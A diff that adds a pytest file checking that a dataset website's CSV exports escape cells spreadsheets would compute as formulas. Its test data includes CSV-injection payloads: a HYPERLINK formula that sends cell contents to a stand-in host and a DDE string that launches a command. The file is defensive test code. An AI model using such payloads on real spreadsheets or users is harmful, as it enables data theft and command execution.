@@ -1,0 +1,60 @@
+"""CSV opens in spreadsheets, which compute what begins like a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+from urllib.parse import quote
+
+import pytest
+from scripted import Box, File, Scripted, Thing
+from web_site import running
+
+from neuromirror.model import DatasetFacts
+from neuromirror.web.server.tables_process import plain_cell
+
+TITLES = [
+    '=HYPERLINK("http://x.example.org/?"&A1,"open")',
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\uff1d1+1",
+    "plain - title = of @ all",
+]
+
+
+@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "\uff0b1"])
+def test_text_that_would_be_computed_has_a_quote_before_it(value: str) -> None:
+    assert plain_cell(value) == f"'{value}"
+
+
+@pytest.mark.parametrize("value", ["", "a=1", " =1", 0, -1, -1.5, None, "1-2"])
+def test_other_values_stay(value: object) -> None:
+    assert plain_cell(value) == value
+
+
+def test_no_cell_of_any_csv_is_a_formula(box: Box, source: Scripted) -> None:
+    for number, title in enumerate(TITLES):
+        facts = DatasetFacts(title=title)
+        source.things[f"thing{number}"] = Thing({f"=a{number}.txt": File(b"1")}, facts=facts)
+    box.sync()
+    with running(box.store, "--sql") as site:
+        for path in (
+            "/index/datasets.csv",
+            "/index/datasets.csv?_labels=on&_size=max",
+            "/index/datasets.csv?_dl=1&_trace=1",
+            "/index/versions.csv",
+            "/index/files.csv",
+            "/index/newest_versions.csv",
+            "/index.csv?sql=" + quote('select title, \'=2\', -1, "title" as "=x" from datasets'),
+        ):
+            text = site.page(path)
+            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+            assert len(cells) > len(TITLES)
+            formulas = [one for one in cells if one.startswith(("=", "+", "@", "\uff1d", "-2"))]
+            assert formulas == [], path
+        assert "'=1+1" in site.page("/index/datasets.csv")
+        # JSON is for programs
+        rows = site.get("/index/datasets.json?_shape=array").json()
+        assert {one["title"] for one in rows} == set(TITLES)
